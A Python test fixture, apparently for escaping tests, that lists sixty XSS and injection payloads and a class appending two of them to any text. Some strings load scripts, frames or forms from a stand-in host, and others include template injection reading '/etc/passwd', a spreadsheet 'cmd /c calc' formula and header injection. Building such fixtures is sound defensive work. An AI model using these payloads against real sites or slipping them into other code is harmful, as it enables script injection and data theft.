"""Sixty strings that try to become more than text; each would show by an id, a dialog or a foreign request."""

from __future__ import annotations

from itertools import cycle

FAR = "//boese.example/x"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=https:" + FAR + "></script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img id=hostile src=x onerror=alert(1)>",
    "<img id=hostile src=https:" + FAR + ".png>",
    '"><img id=hostile src=x onerror=alert(1)>',
    "'><img id=hostile src=x onerror=alert(1)>",
    "`><img id=hostile src=x onerror=alert(1)>",
    "--><img id=hostile src=x onerror=alert(1)>",
    "<!--<img id=hostile src=--><img id=hostile src=x onerror=alert(1)//>",
    "<svg id=hostile onload=alert(1)>",
    "<svg id=hostile><script>alert(1)</script></svg>",
    "<svg id=hostile><a xlink:href=javascript:alert(1)><text>Klick</text></a></svg>",
    "<svg id=hostile><use href=https:" + FAR + "#y></use></svg>",
    "<svg id=hostile><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math id=hostile><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe id=hostile src=javascript:alert(1)></iframe>",
    "<iframe id=hostile srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe id=hostile src=https:" + FAR + "></iframe>",
    "<object id=hostile data=https:" + FAR + "></object>",
    "<embed id=hostile src=https:" + FAR + ">",
    "<link id=hostile rel=stylesheet href=https:" + FAR + ".css>",
    "<style id=hostile>@import 'https:" + FAR + ".css';</style>",
    "<style id=hostile>body{background:url(https:" + FAR + ")}</style>",
    "<base id=hostile href=https:" + FAR + ">",
    "<meta id=hostile http-equiv=refresh content='0;url=https:" + FAR + "'>",
    '<meta id=hostile http-equiv=Content-Security-Policy content="script-src *">',
    "<form id=hostile action=https:" + FAR + "><button>Weiter</button></form>",
    "<input id=hostile autofocus onfocus=alert(1)>",
    "<button id=hostile formaction=javascript:alert(1)>x</button>",
    "<details id=hostile open ontoggle=alert(1)>",
    "<body id=hostile onload=alert(1)>",
    "<video id=hostile poster=https:" + FAR + "><source onerror=alert(1)></video>",
    "<audio id=hostile src=https:" + FAR + " onerror=alert(1)>",
    "<marquee id=hostile onstart=alert(1)>",
    "<template id=hostile><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img id=hostile src=x onerror=alert(1)>'>",
    "<a id=hostile href=javascript:alert(1)>Klick</a>",
    "<a id=hostile href='data:text/html,<script>alert(1)</script>'>Klick</a>",
    "<div id=hostile style=background:url(https:" + FAR + ")>",
    "<table id=hostile background=https:" + FAR + ">",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img id=hostile src=x onerror=alert(1)&#62;",
    "\u003cimg id=hostile src=x onerror=alert(1)\u003e",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7*7 }}{{ config }}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}#{alert(1)}<%= 7*7 %>",
    "{0.__class__.__init__.__globals__}",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202e<img id=hostile src=x onerror=alert(1)>\u2066",
    "=cmd|'/c calc'!A0",
    "]\\0\r\nSet-Cookie: hostile=1\r\n\r\n<script>alert(1)</script>",
)


class Dressing:
    """Puts the next two hostile strings behind every text."""

    def __init__(self) -> None:
        self.used = 0
        self._next = cycle(PAYLOADS)

    def __call__(self, text: str) -> str:
        """The text with something hostile behind it."""
        self.used += 2
        return f"{text} {next(self._next)} {next(self._next)}"
